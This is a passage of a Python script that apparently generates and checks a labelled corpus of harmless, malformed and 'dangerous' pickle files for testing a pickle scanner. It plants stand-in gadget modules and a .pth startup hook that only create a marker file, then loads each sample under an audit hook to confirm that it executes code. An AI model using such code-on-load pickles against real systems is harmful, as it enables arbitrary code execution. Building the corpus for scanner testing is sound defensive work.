    yield "TfidfVectorizer", feature_extraction.text.TfidfVectorizer().fit(["a bc", "bc de"])
    yield "ColumnTransformer", compose.ColumnTransformer([("a", preprocessing.StandardScaler(), [0])]).fit(x)


def scipy_objects():
    import scipy.interpolate, scipy.sparse, scipy.spatial, scipy.stats

    yield "csr_matrix", scipy.sparse.csr_matrix([[1, 0], [0, 2]])
    yield "coo_matrix", scipy.sparse.coo_matrix([[1, 0], [0, 2]])
    yield "interp1d", scipy.interpolate.interp1d([1, 2], [3, 4])
    yield "CubicSpline", scipy.interpolate.CubicSpline([1, 2, 3], [3, 4, 5])
    yield "frozen distribution", scipy.stats.norm(0, 1)
    yield "cKDTree", scipy.spatial.cKDTree([[1, 2], [3, 4]])


def other_objects():
    try:
        import networkx

        yield "graph", networkx.path_graph(3)
    except ImportError:
        pass
    try:
        import dateutil.tz, dateutil.relativedelta

        yield "dateutil", [dateutil.tz.tzutc(), dateutil.relativedelta.relativedelta(days=1)]
    except ImportError:
        pass


def by_value():
    try:
        import cloudpickle
    except ImportError:
        return
    import collections
    import dataclasses
    import enum
    import math

    def use(f):
        f.__module__ = "__main__"
        return f

    offset = 3

    class Point:
        def __init__(self, x):
            self.x = x

        def __getstate__(self):
            return {"x": self.x}

        def __setstate__(self, state):
            self.__dict__.update(state)

        def norm(self):
            return math.hypot(self.x, offset)

    class Color(enum.Enum):
        RED = 1

    @dataclasses.dataclass(frozen=True)
    class Data:
        a: int
        b: str = "x"

    class Slots:
        __slots__ = ("a",)

        def __eq__(self, other):
            return self.a == other.a

        def __hash__(self):
            return hash(self.a)

    Pair = collections.namedtuple("Pair", "a b")
    slots = Slots()
    slots.a = 1
    for c in (Point, Color, Data, Slots, Pair):
        c.__module__ = "__main__"
    for name, obj in [
        ("lambda", lambda x: x + 1),
        ("closure", lambda x: x + offset),
        ("function that uses a module", use(lambda x: math.sqrt(x))),
        ("class", Point),
        ("instance", Point(3)),
        ("enum", Color),
        ("enum member", Color.RED),
        ("dataclass", Data),
        ("dataclass instance", Data(1)),
        ("slots", slots),
        ("namedtuple", Pair(1, 2)),
        ("bound method", Point(3).norm),
        ("list of functions", [len, lambda: 1]),
        ("module", math),
        ("function with default", lambda x, y=[1]: y),
        ("generator function", lambda n: (i for i in range(n))),
    ]:
        for proto in (2, 5):
            yield "cloudpickle %s, protocol %d" % (name, proto), cloudpickle.dumps(obj, protocol=proto)
    try:
        import dill
    except ImportError:
        return
    for name, obj in [("lambda", lambda x: x + 1), ("closure", lambda x: x + offset)]:
        yield "dill " + name, dill.dumps(obj, recurse=True)


# -------------------------------------------------------------------------------------------------------------------------- main

SETUP = {
    "gadget.py": "open('MARK', 'w').close()\n",
    "antigravity_local.py": "open('MARK', 'w').close()\n",
    "this_is_harmless.py": "x = 1\n",
    "sitedir/x.pth": "import builtins; builtins.open('MARK', 'w').close()\n",
    "gadget/__main__.py": None,
}

LOADER = """
import sys, os
sys.path.insert(0, os.getcwd())
events = set()
def hook(event, args):
    events.add(event)
    if event == 'import': events.add('import:' + str(args[0]))
import io, pickle
data = open(sys.argv[1], 'rb').read()
sys.stdin = io.StringIO('')
sys.addaudithook(hook)
stream = io.BytesIO(data)
unpickler = pickle.Unpickler(stream)
try:
    while stream.tell() < len(data):
        pickle.load(stream)
except BaseException as error:
    why = type(error).__name__ + ': ' + str(error)[:80]
else:
    why = ''
import json
with open('events', 'w') as out:
    json.dump([sorted(events), why], out)
"""


def verify(directory, every=1):
    with open(os.path.join(directory, "manifest.json")) as f:
        manifest = json.load(f)
    bad = seen = 0
    shown = [entry for entry in manifest if entry["label"] == "dangerous" and entry["effect"] != "any"]
    for entry in shown[::every]:
        with tempfile.TemporaryDirectory() as work:
            for name, content in SETUP.items():
                if content is not None:
                    os.makedirs(os.path.dirname(os.path.join(work, name)), exist_ok=True)
                    with open(os.path.join(work, name), "w") as f:
                        f.write(content)
            if "__main__" in entry["name"] or "program" in entry["name"]:
                os.remove(os.path.join(work, "gadget.py"))
                os.makedirs(os.path.join(work, "gadget"))
                for name in ("__init__.py", "__main__.py"):
                    with open(os.path.join(work, "gadget", name), "w") as f:
                        f.write("" if name == "__init__.py" else "open('MARK', 'w').close()\nx = 1\n")
            path = os.path.abspath(os.path.join(directory, entry["file"]))
            env = dict(os.environ, BROWSER="true", PYTHONDONTWRITEBYTECODE="1", HOME=work)
            try:
                subprocess.run([sys.executable, "-c", LOADER, path], cwd=work, env=env, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=60)
            except subprocess.TimeoutExpired:
                pass
            events, why = [], "no events"
            if os.path.exists(os.path.join(work, "events")):
                with open(os.path.join(work, "events")) as f:
                    events, why = json.load(f)
            wanted = entry["effect"].split()
            happened = os.path.lexists(os.path.join(work, MARK)) or any(w in events for w in wanted)
            seen += 1
            if not happened:
                bad += 1
                print("no effect: %s (%s): %s" % (entry["name"], entry["effect"], why))
    print("%d of %d effects happened" % (seen - bad, seen))
    return bad


def main():
    if sys.argv[1] == "--verify":
        every = int(sys.argv[3]) if sys.argv[2] == "--every" else 1
        sys.exit(1 if verify(sys.argv[-1], every) else 0)
    directory = sys.argv[1]
    os.makedirs(directory, exist_ok=True)
    manifest = []

    def put(label, cls, name, data, effect=None):
        file = "%s-%04d.pkl" % (label, len(manifest))
        with open(os.path.join(directory, file), "wb") as f:
            f.write(data)
        manifest.append({"name": name, "file": file, "label": label, "class": cls, "effect": effect})

    for name, cls, effect, data in dangerous():
        put("dangerous", cls, name, data, effect)
    for name, cls, data in harmless():
        put("harmless", cls, name, data)
    for name, data in malformed():
        put("malformed", "malformed", name, data)
    for label, name, cls, effect, data in scan_streams.samples():
        if label == "malformed":
            put(label, cls, name, data)
    with open(os.path.join(directory, "manifest.json"), "w") as f:
        json.dump(manifest, f, indent=1)
    counts = {}
    for entry in manifest:
        counts[entry["label"]] = counts.get(entry["label"], 0) + 1
    print(json.dumps(counts))


if __name__ == "__main__":
    main()
